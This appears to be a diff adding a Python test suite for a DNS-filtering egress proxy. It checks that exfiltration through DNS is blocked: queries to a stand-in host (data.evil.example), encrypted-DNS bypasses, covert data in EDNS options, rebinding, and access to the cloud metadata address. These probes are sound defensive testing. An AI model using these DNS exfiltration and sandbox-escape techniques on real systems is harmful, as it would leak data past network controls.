@@ -1,0 +1,377 @@
+# SPDX-License-Identifier: Apache-2.0
+"""A. DNS as a channel."""
+
+import json
+
+import dnswire
+from harness import absent, blocked, case, equal, found, refused, untouched, worked
+from plan import CRAFTED4, EVIL4, FOREIGN4, FOREIGN6, RESOLVER4, RESOLVER6
+
+ALLOW = ["--allow", "github.com"]
+QUIET = [*ALLOW, "--summary", "none"]
+
+
+def nothing_left(lab, *words):
+    """The witness: no query that holds one of these words left the client."""
+    for query in lab.upstream_queries():
+        for word in words:
+            assert word.encode() not in query.lower(), f"a query with {word!r} left: {query!r}"
+
+
+def rcodes(lab, source, options=ALLOW, **others):
+    r = lab.attack(options, source, **others)
+    equal(r.status, 0, "exit status")
+    return r, r.facts
+
+
+@case("A1 DNS over UDP and TCP to a foreign resolver, v4 and v6: the policy answers, no packet leaves")
+def foreign_resolver(lab):
+    r, facts = rcodes(lab, """
+        allowed, denied = dnswire.query("github.com"), dnswire.query("data.evil.example")
+        for server in (FOREIGN4, FOREIGN6):
+            report(**{f"{server} udp": [dns_udp(server, q)["rcode"] for q in (allowed, denied)],
+                      f"{server} tcp": [dns_tcp(server, [q])[0x1234]["rcode"] for q in (allowed, denied)]})
+    """)
+    equal(set(map(json.dumps, facts.values())), {'["NOERROR", "REFUSED"]'}, f"answers {facts}")
+    found(r, "dns_blocked", dst_hostname="data.evil.example")
+    untouched(lab, FOREIGN4, FOREIGN6)
+    nothing_left(lab, "evil")
+
+
+@case("A1 dig, with its own idea of the server, over UDP and TCP")
+def dig(lab):
+    r = lab.run(QUIET, ["sh", "-c", f"""
+        for server in {FOREIGN4} {FOREIGN6}; do for how in +notcp +tcp; do
+        dig +time=5 +tries=1 $how @$server data.evil.example TXT | grep -o 'status: [A-Z]*'
+        dig +time=5 +tries=1 $how +short @$server github.com A
+        done; done"""])
+    equal(r.out.splitlines(), ["status: REFUSED", "203.0.113.10"] * 4, "dig")
+    found(r, "dns_blocked", dst_hostname="data.evil.example")
+    untouched(lab, FOREIGN4, FOREIGN6)
+
+
+@case("A1 split and pipelined TCP frames")
+def split_frames(lab):
+    r, facts = rcodes(lab, """
+        messages = [dnswire.query(n, ident=i) for i, n in enumerate(
+            ["github.com", "a.evil.example", "api.github.com", "b.evil.example", "absent.github.com"], 1)]
+        for chunk in (None, 1, 2, 3, 31):
+            replies = dns_tcp(FOREIGN4, messages, chunk=chunk)
+            report(**{f"chunk {chunk}": [replies[i]["rcode"] for i in range(1, 6)]})
+    """)
+    for what, answers in facts.items():
+        equal(answers, ["NOERROR", "REFUSED", "NOERROR", "REFUSED", "NXDOMAIN"], what)
+    equal(len(facts), 5, "facts")
+    untouched(lab, FOREIGN4)
+    nothing_left(lab, "evil")
+
+
+@case("A1 a TCP frame that is cut, empty or too long harms nobody else")
+def broken_frames(lab):
+    _, facts = rcodes(lab, """
+        for name, data in (("empty", b"\\0\\0"), ("cut", b"\\0\\x20abc"), ("long", b"\\xff\\xff" + b"x" * 70000),
+                           ("short", b"\\0\\x01x"), ("half", b"\\0")):
+            with new_socket(FOREIGN4, socket.SOCK_STREAM) as s:
+                s.connect((FOREIGN4, 53))
+                try:
+                    s.sendall(data)
+                    s.shutdown(socket.SHUT_WR)
+                    while s.recv(4096):
+                        pass
+                except OSError:
+                    pass
+        report(after=dns_tcp(FOREIGN4, [dnswire.query("github.com")])[0x1234]["rcode"])
+    """)
+    equal(facts, {"after": "NOERROR"}, "a good query after bad ones")
+    untouched(lab, FOREIGN4)
+
+
+@case("A1 sockets show the server the client asked for: getpeername, source of replies, v4, v6 and mapped")
+def server_shown(lab):
+    _, facts = rcodes(lab, """
+        question = dnswire.query("github.com")
+        def ask(family, kind, server, connect):
+            with socket.socket(family, kind) as s:
+                s.settimeout(LIMIT)
+                peer = source = None
+                if connect:
+                    s.connect((server, 53))
+                    peer = s.getpeername()[:2]
+                if kind == socket.SOCK_STREAM:
+                    s.sendall(struct.pack("!H", len(question)) + question)
+                    s.recv(2)
+                elif connect:
+                    s.send(question)
+                    source = s.recvfrom(4096)[1][:2]
+                else:
+                    s.sendto(question, (server, 53))
+                    source = s.recvfrom(4096)[1][:2]
+                return {tuple(x) for x in (peer, source) if x} == {(server, 53)} or [peer, source]
+        for family, server in ((socket.AF_INET, FOREIGN4), (socket.AF_INET6, FOREIGN6),
+                               (socket.AF_INET6, "::ffff:" + FOREIGN4)):
+            report(**{f"{server} tcp": ask(family, socket.SOCK_STREAM, server, True),
+                      f"{server} udp connected": ask(family, socket.SOCK_DGRAM, server, True),
+                      f"{server} udp": ask(family, socket.SOCK_DGRAM, server, False)})
+    """)
+    equal({k: v for k, v in facts.items() if v is not True}, {}, "sockets that saw another address")
+    equal(len(facts), 9, "sockets")
+    untouched(lab, FOREIGN4, FOREIGN6)
+
+
+@case("A1 one UDP socket that asks two resolvers hears each under its own address")
+def two_resolvers(lab):
+    _, facts = rcodes(lab, """
+        with new_socket(FOREIGN4, socket.SOCK_DGRAM) as s:
+            seen = []
+            for server in (RESOLVER4, FOREIGN4, RESOLVER4):
+                s.sendto(dnswire.query("github.com"), (server, 53))
+                seen.append(s.recvfrom(4096)[1][0] == server)
+            report(seen=seen)
+    """)
+    equal(facts["seen"], [True] * 3, "sources")
+
+
+@case("A2 DoT, DoH and DoQ to the resolver's address are refused")
+def encrypted_dns(lab):
+    r = lab.attack(ALLOW, """
+        for addr in (RESOLVER4, RESOLVER6, FOREIGN4, FOREIGN6):
+            report(**{f"dot {addr}": attempt(tcp, addr, 853), f"doh {addr}": attempt(reach, addr, 443),
+                      f"doq {addr}": attempt(udp, addr, 853), f"doh3 {addr}": attempt(udp, addr, 443)})
+    """)
+    refused(r, *r.facts)
+    equal(len(r.facts), 16, "attempts")
+    untouched(lab, RESOLVER4, RESOLVER6, FOREIGN4, FOREIGN6)
+
+
+@case("A4 PTR: only for addresses that were leased, and with the name that was asked")
+def ptr(lab):
+    r, facts = rcodes(lab, """
+        def ptr(name):
+            reply = dns_udp(RESOLVER4, dnswire.query(name, "PTR"))
+            return [reply["rcode"]] + [a[3].rstrip(".") for a in reply["answers"]]
+        report(before=ptr("10.113.0.203.in-addr.arpa"))
+        resolve("github.com")
+        v6 = "".join(f"{c}." for c in reversed(socket.inet_pton(socket.AF_INET6, GITHUB6).hex())) + "ip6.arpa"
+        report(after=ptr("10.113.0.203.in-addr.arpa"), six=ptr(v6), evil=ptr("66.113.0.203.in-addr.arpa"),
+               data=ptr("data.evil.example"), odd=ptr("300.113.0.203.in-addr.arpa"), partial=ptr("113.0.203.in-addr.arpa"))
+    """)
+    equal((facts["after"], facts["six"]), (["NOERROR", "github.com"],) * 2, "leased addresses")
+    for name in ("before", "evil", "data", "odd", "partial"):
+        assert facts[name][0] in ("REFUSED", "NXDOMAIN") and len(facts[name]) == 1, f"{name}: {facts[name]}"
+    nothing_left(lab, "in-addr", "arpa", "evil")
+
+
+@case("A5 TXT, NULL, SRV, MX, NS, ANY and unknown types of an allowed name are refused")
+def types(lab):
+    r, facts = rcodes(lab, """
+        for qtype in ("TXT", "NULL", "SRV", "MX", "NS", "SOA", "ANY", 99, 252, 251, 65280):
+            report(**{f"type {qtype}": dns_udp(RESOLVER4, dnswire.query("github.com", qtype))["rcode"]})
+        report(a=dns_udp(RESOLVER4, dnswire.query("github.com"))["rcode"],
+               aaaa=dns_udp(RESOLVER4, dnswire.query("github.com", "AAAA"))["rcode"])
+    """)
+    equal((facts.pop("a"), facts.pop("aaaa")), ("NOERROR", "NOERROR"), "A and AAAA")
+    equal(set(facts.values()), {"REFUSED"}, f"answers {facts}")
+    equal(len(facts), 11, "types")
+    found(r, "dns_blocked", dst_hostname="github.com", query_type="TXT")
+    for query in lab.upstream_queries():
+        assert dnswire.parse(query)["questions"][0][1] in (1, 28), f"left: {query!r}"
+
+
+@case("A5 classes other than IN are refused; several questions, none, and answers as questions are errors")
+def classes_and_counts(lab):
+    r, facts = rcodes(lab, """
+        import attacker
+        question = dnswire.query("github.com")
+        def ask(message):
+            return attempt(lambda: dns_udp(RESOLVER4, message)["rcode"]).get("value", "silence")
+        attacker.LIMIT = 1.5
+        report(chaos=ask(dnswire.query("version.bind", "TXT", qclass=3)), chaos_a=ask(dnswire.query("github.com", "A", 3)),
+               any_class=ask(dnswire.query("github.com", "A", 255)), two=ask(dnswire.query("github.com", n_questions=2)),
+               none=ask(dnswire.query("github.com", n_questions=0)), response=ask(b"\\x12\\x34\\x81" + question[3:]),
+               notify=ask(b"\\x12\\x34\\x20" + question[3:]), cut=ask(question[:-3]), header=ask(question[:11]),
+               loop=ask(question[:12] + b"\\xc0\\x0c\\0\\x01\\0\\x01"), trailing=ask(question + b"extra"))
+    """)
+    wanted = {"chaos": ("REFUSED",), "chaos_a": ("REFUSED",), "any_class": ("REFUSED",), "two": ("FORMERR",),
+              "none": ("FORMERR",), "response": ("silence",), "notify": ("NOTIMP",), "cut": ("FORMERR", "silence"),
+              "header": ("silence",), "loop": ("FORMERR", "silence"), "trailing": ("FORMERR", "silence")}
+    for what, answers in wanted.items():
+        assert facts[what] in answers, f"{what}: wanted {answers}, got {facts[what]}"
+    equal(lab.upstream_queries(), [], "queries that left")
+
+
+@case("A5 HTTPS records come without ech and without address hints")
+def https_record(lab):
+    r, facts = rcodes(lab, """
+        reply = dns_udp(RESOLVER4, dnswire.query("github.com", "HTTPS"))
+        report(rcode=reply["rcode"], records=[a[3] for a in reply["answers"] if a[1] == 65])
+    """)
+    equal((facts["rcode"], len(facts["records"])), ("NOERROR", 1), "answer")
+    data = bytes.fromhex(facts["records"][0])
+    at, keys = 2 + data[2:].index(0) + 1, []
+    while at < len(data):
+        keys.append(int.from_bytes(data[at:at + 2], "big"))
+        at += 4 + int.from_bytes(data[at + 2:at + 4], "big")
+    equal(keys, [1], "SvcParamKeys: alpn alone")
+
+
+@case("A6 unrelated records, detours and loops in an answer open nothing")
+def unrelated(lab):
+    r, facts = rcodes(lab, """
+        def ask(name):
+            reply = dns_udp(RESOLVER4, dnswire.query(name))
+            return [reply["rcode"], [a[3] for a in reply["answers"]], reply["n_authority"], reply["n_additional"]]
+        report(unrelated=ask("unrelated.github.com"), detour=ask("detour.github.com"), loop=ask("loop.github.com"),
+               evil=attempt(tcp, EVIL4, 7))
+    """, [*ALLOW, "--upstream", CRAFTED4])
+    equal(facts["unrelated"], ["NOERROR", ["203.0.113.10"], 0, 0], "an answer with a stranger")
+    equal(facts["detour"][1], [], "records of a chain that begins elsewhere")
+    equal(facts["loop"][:2], ["SERVFAIL", []], "a loop")
+    refused(r, "evil")
+    untouched(lab, EVIL4)
+
+
+@case("A7 forged answers with a wrong id, case or question are not believed; the true one is")
+def forged(lab):
+    r, facts = rcodes(lab, """
+        for name in ("wrongid", "wrongcase", "wrongquestion", "twice", "honest"):
+            report(**{name: resolve(name + ".github.com")})
+        report(evil=attempt(tcp, EVIL4, 7))
+    """, [*ALLOW, "--upstream", CRAFTED4])
+    refused(r, "evil")
+    for name in ("wrongid", "wrongcase", "wrongquestion", "twice", "honest"):
+        assert EVIL4 not in facts[name], f"{name}: {facts[name]}"
+    for name in ("wrongid", "twice", "honest"):
+        equal(facts[name], ["203.0.113.10"], name)
+    untouched(lab, EVIL4)
+
+
+@case("A7 upstream queries have random ids and mixed case, and leave from several ports")
+def randomness(lab):
+    lab.attack(ALLOW, "for i in range(30): resolve(f'n{i}.github.com')")
+    queries = [dnswire.parse(q) for q in lab.upstream_queries()]
+    assert len(queries) >= 30, len(queries)
+    assert len({q["id"] for q in queries}) > len(queries) * 0.9, "ids repeat"
+    names = [q["questions"][0][0] for q in queries]
+    assert sum(n != n.lower() and n != n.upper() for n in names) > len(names) * 0.7, f"case: {names[:5]}"
+
+
+@case("A8 rebinding: names that answer with loopback, private, link-local or embedding addresses are refused")
+def rebinding(lab):
+    names = ("loopback", "loopback6", "private", "metadata", "mapped", "nat64", "ula")
+    r, facts = rcodes(lab, f"""
+        report(**{{n: resolve(n + ".rebind.example") for n in {names}}})
+        report(private_tcp=attempt(tcp, "10.99.0.1", 7), metadata_tcp=attempt(reach, "169.254.169.254", 80),
+               mapped_tcp=attempt(tcp, "::ffff:10.99.0.1", 7), ula_tcp=attempt(tcp, "fd99::1", 7))
+    """, ["--allow", "rebind.example"])
+    for name in names:
+        assert isinstance(facts[name], str), f"{name}: {facts[name]}"
+    refused(r, "private_tcp", "metadata_tcp", "mapped_tcp", "ula_tcp")
+    found(r, "dns_blocked", dst_hostname="loopback.rebind.example")
+    untouched(lab, "10.99.0.1", "169.254.169.254", "fd99::1", "64:ff9b::a63:1")
+
+
+@case("A9 mDNS, LLMNR and the multicast behind them are refused")
+def side_doors(lab):
+    r = lab.attack(ALLOW, """
+        report(mdns=attempt(udp, "224.0.0.251", 5353), llmnr=attempt(udp, "224.0.0.252", 5355),
+               mdns6=attempt(udp, "ff02::fb%eth0", 5353), unicast=attempt(udp, RESOLVER4, 5353),
+               llmnr_tcp=attempt(tcp, RESOLVER4, 5355))
+    """)
+    refused(r, "mdns", "llmnr", "unicast", "llmnr_tcp")
+    fact = r.facts["mdns6"]
+    assert "errno" in fact and fact["ms"] < 1000, f"mdns6: {fact}"
+    untouched(lab, "224.0.0.251", "224.0.0.252", "ff02::fb", RESOLVER4)
+
+
+@case("A11 the proxy's own upstream, asked directly, is the proxy again")
+def upstream_directly(lab):
+    r, facts = rcodes(lab, """
+        report(denied=dns_udp(CRAFTED4, dnswire.query("evil.example"))["rcode"],
+               allowed=dns_udp(CRAFTED4, dnswire.query("honest.github.com"))["rcode"], dot=attempt(tcp, CRAFTED4, 853))
+    """, [*ALLOW, "--upstream", CRAFTED4])
+    equal((facts["denied"], facts["allowed"]), ("REFUSED", "NOERROR"), "answers")
+    refused(r, "dot")
+    nothing_left(lab, "evil")
+
+
+@case("A12 EDNS options, ids and case of the client do not reach the upstream; the reply keeps the client's case")
+def covert(lab):
+    r, facts = rcodes(lab, """
+        option = struct.pack("!HH", 65001, 14) + b"EXFILTRATEDATA"
+        reply = dns_udp(RESOLVER4, dnswire.query("GiThUb.CoM", ident=0xBEEF, edns=option))
+        report(id=reply["id"], name=reply["questions"][0][0], answers=reply["answers"])
+        padded = dns_udp(RESOLVER4, dnswire.query("v4.github.com", ident=0xF00D, edns=struct.pack("!HH", 12, 400) + b"P" * 400))
+        report(padded=padded["rcode"])
+    """)
+    equal((facts["id"], facts["name"]), (0xBEEF, "GiThUb.CoM"), "id and name in the reply")
+    equal(facts["answers"][0][0].lower(), "github.com", "owner")
+    queries = lab.upstream_queries()
+    assert queries, "nothing was asked upstream"
+    for query in queries:
+        assert b"EXFILTRATE" not in query and b"PPPP" not in query and len(query) < 80, f"left: {query!r}"
+        parsed = dnswire.parse(query)
+        assert parsed["questions"][0][0] != "GiThUb.CoM" or len(queries) > 1, "the client's case left"
+
+
+@case("A12 dig sees its own spelling in the answer")
+def dig_case(lab):
+    r = lab.run(QUIET, ["dig", "+qr", "+time=5", "+tries=1", "GitHUB.com", "A"])
+    equal(r.status, 0, "dig")
+    answer = r.out.split("ANSWER SECTION:")[-1].splitlines()[1]
+    assert answer.split()[0] in ("GitHUB.com.", "github.com.") and "203.0.113.10" in answer, r.out
+    assert r.out.count("GitHUB.com.") >= 2, r.out
+
+
+@case("A14 odd bytes in names are refused, logged on one line, and never asked upstream")
+def odd_names(lab):
+    r, facts = rcodes(lab, """
+        names = ([b'a"b', b"evil", b"example"], [b"a\\nb\\x1b[31m", b"github", b"com"], [b"\\xff\\xfe", b"github", b"com"],
+                 [b"a.b", b"github", b"com"], [b"\\0x", b"github", b"com"], [b"x" * 63] * 3 + [b"github", b"com"],
+                 [b"::error::x", b"github", b"com"])
+        report(rcodes=[attempt(lambda n=n: dns_udp(RESOLVER4, dnswire.query(n))["rcode"]).get("value") for n in names])
+    """)
+    for rcode in facts["rcodes"][:5]:
+        assert rcode in ("REFUSED", "FORMERR"), facts
+    assert b"\x1b" not in r.log_text, "an escape character in the log"
+    nothing_left(lab, "evil", "a.b", "error", '"')
+
+
+@case("A6 the target of a CNAME can be asked once its chain is known, and not before")
+def derived(lab):
+    r, facts = rcodes(lab, """
+        report(before=resolve("edge.cdn.example"), chain=resolve("www.shop.example"), after=resolve("edge.cdn.example"),
+               sub=resolve("data.edge.cdn.example"))
+    """, ["--allow", "www.shop.example"])
+    equal((facts["before"], facts["sub"]), ("EAI AGAIN", "EAI AGAIN"), "names outside the chain")
+    equal(facts["after"], facts["chain"], "a name on the chain")
+
+
+@case("B10 B13 nothing is implied: gateway, neighbours, metadata, private and multicast addresses are refused")
+def nothing_implied(lab):
+    r = lab.attack(ALLOW, """
+        report(gateway=attempt(tcp, GATEWAY4, 7), gateway6=attempt(tcp, GATEWAY6, 7),
+               metadata=attempt(reach, "169.254.169.254", 80), private=attempt(tcp, "10.99.0.1", 7),
+               multicast=attempt(udp, "239.1.1.1", 8000), ula=attempt(tcp, "fd99::1", 7),
+               broadcast=attempt(udp, "10.77.0.255", 8000))
+    """)
+    refused(r, "gateway", "gateway6", "metadata", "private", "multicast", "ula")
+    assert "errno" in r.facts["broadcast"], r.facts
+    untouched(lab, "169.254.169.254", "10.99.0.1", "239.1.1.1", "fd99::1", "10.77.0.255")
+
+
+@case("loopback and the host's own addresses pass")
+def loopback(lab):
+    r = lab.attack(ALLOW, """
+        import threading
+        def serve(addr):
+            listener = socket.create_server((addr, 0), family=family_of(addr))
+            def answer():
+                c = listener.accept()[0]
+                c.sendall(c.recv(16))
+                c.close()
+            threading.Thread(target=answer, daemon=True).start()
+            return listener.getsockname()[1]
+        report(**{addr: attempt(tcp, addr, serve(addr)) for addr in ("127.0.0.1", "::1", CLIENT4, CLIENT6)})
+    """)
+    worked(r, "127.0.0.1", "::1", "10.77.0.2", "fd77::2")
+    absent(r, "connection_blocked")
